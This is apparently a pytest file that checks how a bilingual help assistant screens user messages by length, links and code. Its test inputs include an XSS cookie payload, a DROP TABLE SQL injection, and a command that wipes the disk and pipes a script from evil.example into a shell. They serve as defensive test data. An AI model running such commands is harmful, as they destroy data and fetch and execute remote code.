"""Messages that are not looked up: too long, only links, only code."""

import pytest

from bilingual_assistant.answers.screening import MAX_QUESTION_CHARS, screen


@pytest.mark.parametrize("text", [
    "年假一年几天啊", "how many days of annual leave do I get?",
    "VPN 一直报 408 怎么搞", "what does ctrl+alt+del do on my laptop?",
    "the portal at https://help.northwind.example says error 500, what now?",
    "我的电脑提示 `ERR_CONNECTION_RESET`，怎么办？",
    "what does `git push --force` do to my branch?",
    "is 5 < 10 days enough notice for leave?",
    "年假" * (MAX_QUESTION_CHARS // 2),
])
def test_questions_are_looked_up(text):
    assert screen(text) is None


@pytest.mark.parametrize("text, reason", [
    ("年假" * (MAX_QUESTION_CHARS // 2) + "吗", "too_long"),
    ("x" * 100_000, "too_long"),
    ("https://wiki.northwind.example/kb/vpn", "only_links"),
    ("  www.example.com/a?b=c  https://evil.example/x  ", "only_links"),
    ("<script>alert(document.cookie)</script>", "only_code"),
    ("def f(x):\n    return {'a': [x, x*2]}", "only_code"),
    ("for (i=0;i<10;i++) { a[i] = b[i] * 2; }", "only_code"),
])
def test_other_messages_are_declined_with_their_reason(text, reason):
    assert screen(text) == reason


@pytest.mark.parametrize("text", [
    "SELECT * FROM users WHERE id = 1; DROP TABLE users;--",
    "rm -rf / && curl http://evil.example/x.sh | sh",
])
def test_code_that_reads_like_words_is_looked_up_as_text(text):
    # Searched like any question: nothing runs it, and the search takes it as data
    # (tests/contract/test_answers_on_sample_kb.py searches Milvus with such text).
    assert screen(text) is None
